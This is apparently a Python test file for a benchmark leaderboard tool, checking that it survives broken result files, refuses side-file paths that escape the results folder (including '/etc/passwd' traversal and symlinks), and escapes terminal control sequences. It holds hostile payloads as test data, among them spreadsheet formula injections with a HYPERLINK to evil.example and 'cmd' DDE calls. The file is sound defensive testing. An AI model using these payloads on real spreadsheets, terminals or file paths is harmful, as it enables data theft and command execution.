"""Hostile and broken input (issue 12): the leaderboard skips or works around every bad file with a
warning naming it, never opens side files outside the results folder, fails to write with a message
(no traceback, no partial file), and nothing printed or put in a CSV can act on a terminal or a
spreadsheet."""

from __future__ import annotations

import csv
import errno
import io
import json
import os
import shutil
from pathlib import Path

import pytest

from tvts_bench.report.aggregate import BUILTIN_SUFFIX, build_leaderboard
from tvts_bench.report.csv import render_csv
from tvts_bench.report.html import render_html
from tvts_bench.report.markdown import render_markdown
from tvts_bench.text_safety import printable, rich_text, spreadsheet_cell

FIXTURES = Path(__file__).parent / "fixtures" / "results"
SSV2_FIXTURE = Path(__file__).parent / "fixtures" / "datasets" / "ssv2"
COLUMN = "ssv2-linear" + BUILTIN_SUFFIX
# clears the screen, homes the cursor, prints a fake verdict in markup, then reverses the line
EVIL = "1\x1b[2J\x1b[H[green]all found[bold] \u202eevil\x9b31m\x7f\rX"


@pytest.fixture(autouse=True)
def _plain_console(monkeypatch):
    # no colours and no wrapping in captured output, whatever the CI's environment says
    monkeypatch.delenv("FORCE_COLOR", raising=False)
    monkeypatch.setenv("COLUMNS", "1000")


def _results(tmp_path: Path) -> Path:
    """A results folder with tvts (3 seeds) and clip (1 seed) on ssv2-linear, both with side files:
    clip is compared with tvts by the paired bootstrap while its side file is usable."""
    root = tmp_path / "results"
    shutil.copytree(FIXTURES / "tvts" / "ssv2-linear", root / "tvts")
    shutil.copytree(FIXTURES / "clip" / "ssv2-linear", root / "clip")
    return root


def _record(root: Path) -> dict:
    return json.loads((root / "clip" / "builtin-seed0.json").read_text())


def _render_all(root: Path):
    """Build the leaderboard and render every format (each must succeed and encode as UTF-8)."""
    lb = build_leaderboard(root)
    for render in (render_html, render_markdown, render_csv):
        render(lb).encode("utf-8", errors="backslashreplace")
    return lb


def _cli(args: list[str], capsys) -> tuple[int, str, str]:
    from tvts_bench.cli import main

    try:
        main(args)
        code = 0
    except SystemExit as e:
        code = e.code if isinstance(e.code, int) else 1
    out, err = capsys.readouterr()
    return code, out, err


def _leaderboard(root: Path, out: Path, capsys, fmt: str = "html") -> tuple[int, str, str]:
    return _cli(["leaderboard", "--results", str(root), "--out", str(out), "--format", fmt], capsys)


def _clip_rule(lb) -> str:
    col = next(c for c in lb.columns if c.key == COLUMN)
    return col.cell("clip").separation.rule


def test_fixture_copy_uses_the_paired_bootstrap(tmp_path):
    lb = _render_all(_results(tmp_path))
    assert lb.warnings == [] and _clip_rule(lb) == "paired bootstrap"


# ------------------------------------------------------------------------------------- result files

def _deep(levels: int) -> str:
    return "[" * levels + "]" * levels


RESULT_FILES = {
    # json raises ValueError past Python's int-to-str digit limit (4300)
    "huge-int.json": lambda rec: json.dumps(rec).replace('"seed": 0', '"seed": ' + "9" * 5000),
    "huge-int-value.json": lambda rec: '{"schema_version": 1, "x": ' + "1" * 100_000 + "}",
    # json raises RecursionError
    "deep.json": lambda rec: _deep(100_000),
    # parses, but would exhaust the recursion limit when validated, copied or rendered
    "deep-card.json": lambda rec: json.dumps({**rec, "model": {**rec["model"], "name": "deep", "card": "CARD"}})
                                  .replace('"CARD"', '{"a": ' * 800 + "{}" + "}" * 800),
    "truncated.json": lambda rec: json.dumps(rec)[:-40],
    "nul.json": lambda rec: "\x00" * 10,
}


@pytest.mark.parametrize("name", sorted(RESULT_FILES))
def test_broken_result_file_is_skipped_and_named(tmp_path, capsys, name):
    root = _results(tmp_path)
    (root / "bad").mkdir()
    (root / "bad" / name).write_text(RESULT_FILES[name](_record(root)))
    lb = _render_all(root)
    assert [w for w in lb.warnings if name in w and "skipped" in w], lb.warnings
    assert len(lb.warnings) == 1 and _clip_rule(lb) == "paired bootstrap"
    code, out, err = _leaderboard(root, tmp_path / "board.html", capsys)
    assert code == 0 and (tmp_path / "board.html").is_file()
    assert name in err and "Traceback" not in err


def test_clear_reasons_for_broken_result_files(tmp_path):
    root = _results(tmp_path)
    rec = _record(root)
    for name in ("huge-int.json", "deep.json", "deep-card.json"):
        (root / name).write_text(RESULT_FILES[name](rec))
    (root / "latin1.json").write_bytes(json.dumps({**rec, "seed": 7}).replace('"clip"', '"clip\u00e9"')
                                       .encode("latin-1"))
    text = "\n".join(build_leaderboard(root).warnings)
    assert "huge-int.json: not a readable JSON file (holds an integer longer than 4300 digits)" in text
    assert "deep.json: not a readable JSON file (nested too deeply to read)" in text
    # 800 levels: past the depth limit, or (on a deeper stack) past the recursion limit while parsing
    assert "deep-card.json: not a readable JSON file (nested " in text
    assert "latin1.json: not a readable JSON file (not UTF-8 text" in text
    assert "set_int_max_str_digits" not in text          # no advice meant for programmers


def test_hostile_values_in_a_valid_result_file_still_render(tmp_path):
    root = _results(tmp_path)
    rec = _record(root)
    weird = {**rec, "model": {**rec["model"], "name": "weird\udc80\x1b[31m", "weights_hash": "w",
                              "num_params": 10 ** 4000, "card": {"x" * 10_000: "<b>" * 1000}},
             "seed": -(10 ** 4000),
             "metrics": {"top1": {"value": float("inf"), "ci_low": float("-inf"), "ci_high": float("nan"),
                                  "ci_level": float("nan")},
                         "top5": {"value": 1e308, "ci_low": -1e308, "ci_high": 1e308, "ci_level": 7.0}},
             "per_sample_file": None}
    (root / "weird.json").write_text(json.dumps(weird))
    lb = _render_all(root)
    assert lb.warnings == [] and "weird\udc80\x1b[31m" in lb.models


# --------------------------------------------------------------------------------------- side files

def _rewrite_side(root: Path, model: str, mutate) -> Path:
    side = root / model / "builtin-seed0.samples.jsonl"
    lines = side.read_text().splitlines()
    out = mutate(lines)
    if isinstance(out, bytes):
        side.write_bytes(out)
    else:
        side.write_text("\n".join(out) + "\n")
    return side


def _set_field_named(field, value):
    def mutate(lines: list[str]) -> list[str]:
        row = json.loads(lines[3])
        row[field] = value
        lines[3] = json.dumps(row)
        return lines
    return mutate


def _set_field(value):
    return _set_field_named("top1", value)


SIDE_FILES = {
    "bad-json-line": (lambda lines: lines[:5] + ["{not json"] + lines[5:], "line 6: not valid JSON"),
    "array-line": (lambda lines: lines[:5] + ["[1, 2]"] + lines[5:], "line 6 is not a JSON object"),
    "number-line": (lambda lines: ["42"] + lines, "line 1 is not a JSON object"),
    "huge-int-line": (lambda lines: lines + ['{"correct": ' + "7" * 5000 + "}"],
                      "holds an integer longer than 4300 digits"),
    "deep-line": (lambda lines: ['{"a": ' + _deep(100_000) + "}"] + lines, "line 1: nested too deeply"),
    "deep-ish-line": (lambda lines: ['{"a": ' + _deep(300) + "}"] + lines, "nested more than 64 levels"),
    "non-utf8": (lambda lines: ("\n".join(lines) + "\n").encode() + b"\xff\xfe\x00garbage\n",
                 "line 201 is not UTF-8 text (byte b'\\xff')"),
    "string-field": (_set_field("abc"), "field 'top1' holds 'abc', not a finite number"),
    "numeric-string-field": (_set_field("1"), "field 'top1' holds '1', not a finite number"),
    "null-field": (_set_field(None), "field 'top1' holds None, not a finite number"),
    "list-field": (_set_field([1]), "field 'top1' holds [1], not a finite number"),
    "object-field": (_set_field({"a": 1}), "field 'top1' holds {'a': 1}, not a finite number"),
    "overflowing-int-field": (_set_field(10 ** 400), "field 'top1' holds 1000"),
    "boolean-field": (_set_field(True), "field 'top1' holds True, not a finite number"),
    "id-without-sample": (_set_field_named("sample_id", None), "sample_id must be a string or a [cluster, n] pair"),
    "repeated-id": (_set_field_named("sample_id", "vid0000"), "sample_id 'vid0000' appears 2 times"),
}


@pytest.mark.parametrize("case", sorted(SIDE_FILES))
def test_broken_side_file_falls_back_to_interval_overlap(tmp_path, capsys, case):
    mutate, reason = SIDE_FILES[case]
    root = _results(tmp_path)
    side = _rewrite_side(root, "tvts", mutate)
    lb = _render_all(root)
    assert _clip_rule(lb) == "interval overlap"
    named = [w for w in lb.warnings if str(side) in w and "interval overlap" in w]
    assert len(named) == 1 and reason in named[0], lb.warnings
    code, out, err = _leaderboard(root, tmp_path / "board.md", capsys, "md")
    assert code == 0 and side.name in err and "Traceback" not in err
    assert side.name in (tmp_path / "board.md").read_text()


def test_wrong_types_in_fields_the_report_only_compares_are_harmless(tmp_path):
    root = _results(tmp_path)

    def mutate(lines: list[str]) -> list[str]:
        rows = [json.loads(line) for line in lines]
        rows[0]["label"] = {"a": [1, {"b": None}]}
        rows[1]["pred"] = {"not": "a list"}
        rows[2]["video_id"] = [[["nested id"]]]
        return [json.dumps(r) for r in rows]

    _rewrite_side(root, "clip", mutate)          # clip's side file is in the layout before the schema
    _render_all(root)                            # whatever the verdict, no exception


# ----------------------------------------------------------------------- side files outside the folder

def _point_side_file(root: Path, value: str) -> Path:
    result = root / "clip" / "builtin-seed0.json"
    rec = json.loads(result.read_text())
    rec["per_sample_file"] = value
    result.write_text(json.dumps(rec))
    return result


@pytest.fixture()
def outside(tmp_path: Path) -> Path:
    """clip's real (usable) side file, moved out of the results folder: were the report to open it,
    clip would be compared by the paired bootstrap."""
    root = _results(tmp_path)
    target = tmp_path / "elsewhere" / "secret.samples.jsonl"
    target.parent.mkdir()
    shutil.move(root / "clip" / "builtin-seed0.samples.jsonl", target)
    return target


def _assert_refused(tmp_path: Path, capsys, result: Path, words: str) -> None:
    root = tmp_path / "results"
    lb = _render_all(root)
    assert _clip_rule(lb) == "interval overlap"
    named = [w for w in lb.warnings if str(result) in w]
    assert len(named) == 1 and words in named[0] and "not found" not in named[0], lb.warnings
    code, out, err = _leaderboard(root, tmp_path / "board.html", capsys)
    assert code == 0 and words in err and "Traceback" not in err


def test_side_file_path_climbing_out_is_not_opened(tmp_path, capsys, outside):
    result = _point_side_file(tmp_path / "results", "../../elsewhere/secret.samples.jsonl")
    _assert_refused(tmp_path, capsys, result, "points outside the results folder")


@pytest.mark.parametrize("value", ["../../../../../../../../etc/passwd", "/etc/passwd"])
def test_side_file_path_to_etc_passwd_is_not_opened(tmp_path, capsys, outside, value):
    result = _point_side_file(tmp_path / "results", value)
    words = "not a relative path" if value.startswith("/") else "points outside the results folder"
    _assert_refused(tmp_path, capsys, result, words)


def test_absolute_side_file_path_is_not_opened(tmp_path, capsys, outside):
    result = _point_side_file(tmp_path / "results", str(outside))
    _assert_refused(tmp_path, capsys, result, "not a relative path")


def test_symlinked_side_file_escaping_the_folder_is_not_opened(tmp_path, capsys, outside):
    root = tmp_path / "results"
    (root / "clip" / "builtin-seed0.samples.jsonl").symlink_to(outside)
    _assert_refused(tmp_path, capsys, root / "clip" / "builtin-seed0.json", "after following links")


def test_symlinked_folder_escaping_is_not_opened(tmp_path, capsys, outside):
    root = tmp_path / "results"
    (root / "clip" / "link").symlink_to(outside.parent, target_is_directory=True)
    result = _point_side_file(root, "link/secret.samples.jsonl")
    _assert_refused(tmp_path, capsys, result, "points outside the results folder")


def test_side_file_paths_inside_the_folder_still_work(tmp_path, outside):
    root = tmp_path / "results"
    shutil.move(outside, root / "common.samples.jsonl")
    (root / "clip" / "builtin-seed0.samples.jsonl").symlink_to(root / "common.samples.jsonl")
    assert _clip_rule(_render_all(root)) == "paired bootstrap"
    _point_side_file(root, "../common.samples.jsonl")
    lb = _render_all(root)
    assert lb.warnings == [] and _clip_rule(lb) == "paired bootstrap"


@pytest.mark.parametrize("value", ["bad\x00name.jsonl", "\ud800.jsonl", "C:\\Windows\\win.ini"])
def test_unusable_side_file_names_are_refused(tmp_path, outside, value):
    result = _point_side_file(tmp_path / "results", value)
    lb = _render_all(tmp_path / "results")
    assert _clip_rule(lb) == "interval overlap"
    assert any(str(result) in w for w in lb.warnings), lb.warnings


def test_symlink_loop_side_file(tmp_path, outside):
    root = tmp_path / "results"
    (root / "clip" / "a.jsonl").symlink_to(root / "clip" / "b.jsonl")
    (root / "clip" / "b.jsonl").symlink_to(root / "clip" / "a.jsonl")
    _point_side_file(root, "a.jsonl")
    lb = _render_all(root)
    assert _clip_rule(lb) == "interval overlap" and lb.warnings


# ------------------------------------------------------------------------------------ exit codes

def test_skipped_files_exit_0_with_warnings(tmp_path, capsys):
    root = _results(tmp_path)
    (root / "broken.json").write_text("{")
    code, out, err = _leaderboard(root, tmp_path / "board.csv", capsys, "csv")
    assert code == 0
    assert out.strip() == str((tmp_path / "board.csv").resolve())
    assert "warning:" in err and "broken.json" in err
    assert {r["model"] for r in csv.DictReader(open(tmp_path / "board.csv"))} >= {"tvts", "clip"}


def _assert_write_failed(code: int, err: str, out_path: Path) -> None:
    assert code == 2, err
    assert "cannot write the leaderboard to" in err and str(out_path) in err.replace("\n", "")
    assert "Traceback" not in err and "nothing was written" in err


def test_read_only_folder_is_a_clear_error(tmp_path, capsys, monkeypatch):
    import tvts_bench.atomic as atomic

    def refuse(*args, dir=None, **kwargs):
        raise PermissionError(errno.EACCES, "Permission denied", str(Path(dir) / ".index.html.x.tmp"))

    monkeypatch.setattr(atomic.tempfile, "mkstemp", refuse)
    out = tmp_path / "ro" / "index.html"
    code, _, err = _leaderboard(_results(tmp_path), out, capsys)
    _assert_write_failed(code, err, out)
    assert "Permission denied" in err and not out.exists()


@pytest.mark.skipif(not hasattr(os, "geteuid") or os.geteuid() == 0, reason="root ignores permissions")
def test_read_only_folder_for_real(tmp_path, capsys):
    folder = tmp_path / "ro"
    folder.mkdir()
    folder.chmod(0o555)
    try:
        code, _, err = _leaderboard(_results(tmp_path), folder / "index.html", capsys)
        _assert_write_failed(code, err, folder / "index.html")
        assert list(folder.iterdir()) == []
    finally:
        folder.chmod(0o755)


def test_full_disk_keeps_the_old_report_and_leaves_no_partial_file(tmp_path, capsys, monkeypatch):
    root = _results(tmp_path)
    out = tmp_path / "board" / "index.html"
    out.parent.mkdir()
    out.write_text("the previous report")
    real_write_bytes = Path.write_bytes

    def disk_full(self, data):
        real_write_bytes(self, data[: len(data) // 2])     # half of it reached the disk
        raise OSError(errno.ENOSPC, "No space left on device")

    monkeypatch.setattr(Path, "write_bytes", disk_full)
    code, _, err = _leaderboard(root, out, capsys)
    monkeypatch.undo()
    _assert_write_failed(code, err, out)
    assert "No space left on device" in err
    assert out.read_text() == "the previous report"
    assert [p.name for p in out.parent.iterdir()] == ["index.html"]       # no temporary file left


def test_a_file_in_the_way_of_the_output_folder(tmp_path, capsys):
    (tmp_path / "blocker").write_text("")
    out = tmp_path / "blocker" / "sub" / "index.html"
    code, _, err = _leaderboard(_results(tmp_path), out, capsys)
    _assert_write_failed(code, err, out)
    assert "a file is in the way" in err


def test_nothing_usable_is_exit_2_and_names_the_file(tmp_path, capsys):
    root = tmp_path / "results"
    root.mkdir()
    evil = "bad\x1b]0;pwned\x07\x1b[2J\u202e.json"
    (root / evil).write_text("[" * 100_000)
    code, out, err = _leaderboard(root, tmp_path / "board.html", capsys)
    assert code == 2 and "no usable result files" in err and "Traceback" not in err
    assert "\x1b" not in err and "\u202e" not in err and "\x07" not in err
    assert printable(evil) in err
    assert not (tmp_path / "board.html").exists()


# ------------------------------------------------------------------------------ terminal output

def test_printable_escapes_what_acts_on_a_terminal():
    assert printable("ok name-1.webm") == "ok name-1.webm"
    assert printable("caf\u00e9 \u65e5\u672c") == "caf\u00e9 \u65e5\u672c"           # text stays text
    assert printable("a\x1b[2Jb") == "a\\x1b[2Jb"
    assert printable("\x00\t\n\r\x7f\x85\x9b") == "\\x00\\x09\\x0a\\x0d\\x7f\\x85\\x9b"
    assert printable("\u202eabc\u2066\u200f\u2028") == "\\u202eabc\\u2066\\u200f\\u2028"
    assert printable("\udcff") == "\\udcff"
    assert printable(Path("/x/\x1b")) == "/x/\\x1b"
    assert rich_text("[red]x[/]") == "\\[red]x\\[/]"
    assert rich_text("trailing\\") == "trailing\\\\"


def test_data_check_escapes_control_characters_in_ids(tmp_path, capsys):
    root = tmp_path / "ssv2"
    shutil.copytree(SSV2_FIXTURE / "labels", root / "labels")
    (root / "20bn-something-something-v2").mkdir()
    (root / "20bn-something-something-v2" / "1.webm").write_bytes(b"")
    template = "Holding [something] next to [something]"
    (root / "labels" / "something-something-v2-train.json").write_text(json.dumps(
        [{"id": "1", "template": template}, {"id": EVIL, "template": template}]))
    (root / "labels" / "something-something-v2-validation.json").write_text(json.dumps(
        [{"id": "2", "template": template}]))
    code, out, err = _cli(["data", "check", "ssv2", "--root", str(root)], capsys)
    assert code == 0, err
    for raw in ("\x1b", "\x9b", "\x7f", "\u202e", "\r"):
        assert raw not in out
    assert f"20bn-something-something-v2/{printable(EVIL)}.webm" in out
    assert "\\x1b[2J\\x1b[H[green]all found[bold] \\u202eevil\\x9b31m\\x7f\\x0dX" in out   # markup shown as text
    assert "missing in train (1)" in out
    # the JSON form is escaped by the JSON encoder, and keeps the id exactly
    code, out, _ = _cli(["data", "check", "ssv2", "--root", str(root), "--json"], capsys)
    assert code == 0 and "\x1b" not in out and "\u202e" not in out
    missing = json.loads(out)["splits"]["train"]["missing_videos"]
    assert missing == [f"20bn-something-something-v2/{EVIL}.webm"]


def test_list_escapes_control_characters(capsys, monkeypatch):
    import tvts_bench.listing as listing

    monkeypatch.setattr(listing, "_rows", lambda what: ([(EVIL, "[bold]x", ":warning:")], ["name", "a", "b"]))
    code, out, err = _cli(["list", "models"], capsys)
    assert code == 0, err
    assert "\x1b" not in out and "\u202e" not in out and "\x9b" not in out
    assert "[bold]x" in out and ":warning:" in out
    assert "\\x1b[2J" in out


def test_leaderboard_warnings_are_escaped(tmp_path, capsys):
    root = _results(tmp_path)
    (root / f"{EVIL.replace('/', '')}.json").write_text("{")
    code, out, err = _leaderboard(root, tmp_path / "board.html", capsys)
    assert code == 0
    for raw in ("\x1b", "\x9b", "\x7f", "\u202e", "\r"):
        assert raw not in err
    assert printable(EVIL) + ".json: not a readable JSON file" in err.replace("\\[", "[")


def test_undecodable_names_and_lone_surrogates_are_written(tmp_path, capsys):
    root = _results(tmp_path)
    rec = _record(root)
    (root / os.fsdecode(b"bad-\xff-name.json")).write_text("{")
    (root / "sur.json").write_text(json.dumps({**rec, "model": {**rec["model"], "name": "x\udc80y",
                                                                "weights_hash": "s"}}))
    for fmt in ("html", "md", "csv"):
        out = tmp_path / f"board.{fmt}"
        code, _, err = _leaderboard(root, out, capsys, fmt)
        assert code == 0, err
        text = out.read_bytes().decode("utf-8")            # valid UTF-8
        assert "\\udc80" in text or "\\\\udc80" in text
        assert "\\udcff" in err


# ---------------------------------------------------------------------------------- CSV and Markdown

FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+1+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
            "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", " =1+1"]


def test_csv_cells_cannot_become_formulas(tmp_path):
    root = _results(tmp_path)
    rec = _record(root)
    for i, name in enumerate(FORMULAS):
        (root / f"f{i}.json").write_text(json.dumps({**rec, "model": {**rec["model"], "name": name,
                                                                      "weights_hash": f"f{i}"},
                                                     "per_sample_file": None}))
    neg = {**rec, "model": {**rec["model"], "name": "-1.5", "weights_hash": "neg"}, "per_sample_file": None,
           "task": {**rec["task"], "name": "=task", "main_metric": "top1"},
           "metrics": {"top1": {"value": -2.5, "ci_low": -3.25, "ci_high": -1e-7}}}
    (root / "neg.json").write_text(json.dumps(neg))
    text = render_csv(build_leaderboard(root))
    rows = list(csv.DictReader(io.StringIO(text)))
    models = {r["model"] for r in rows}
    for name in FORMULAS:
        # a leading tab or CR is escaped (\\x09...), which already makes the cell plain text
        assert ("'" + name if name[0] not in "\t\r" else printable(name)) in models
    for row in rows:
        for key, cell in row.items():
            if cell.lstrip(" ")[:1] in ("=", "+", "-", "@", "\t", "\r"):
                float(cell)          # only numbers may start like a formula
    neg_rows = [r for r in rows if r["task"] == "'=task"]
    assert [(r["model"], r["value"], r["ci_low"], r["ci_high"]) for r in neg_rows] == \
        [("-1.5", "-2.5", "-3.25", "-1e-07")]                       # numbers stay numeric


def test_spreadsheet_cell():
    assert spreadsheet_cell("=1+1") == "'=1+1"
    assert spreadsheet_cell("-1.5") == "-1.5" and spreadsheet_cell("+3") == "+3"
    assert spreadsheet_cell("-2e-05") == "-2e-05"
    assert spreadsheet_cell("-inf") == "'-inf" and spreadsheet_cell("-1-1") == "'-1-1"
    assert spreadsheet_cell("\t=1") == "\\x09=1"        # the tab is escaped: no longer a leading tab
    assert spreadsheet_cell("tvts") == "tvts" and spreadsheet_cell("<script>") == "<script>"


def test_markdown_escapes_control_characters(tmp_path):
    root = _results(tmp_path)
    rec = _record(root)
    (root / "evil.json").write_text(json.dumps({**rec, "model": {**rec["model"], "name": EVIL, "weights_hash": "e"},
                                                "per_sample_file": None}))
    md = render_markdown(build_leaderboard(root))
    for raw in ("\x1b", "\x9b", "\x7f", "\u202e"):
        assert raw not in md
    assert "\\x1b[2J" in md
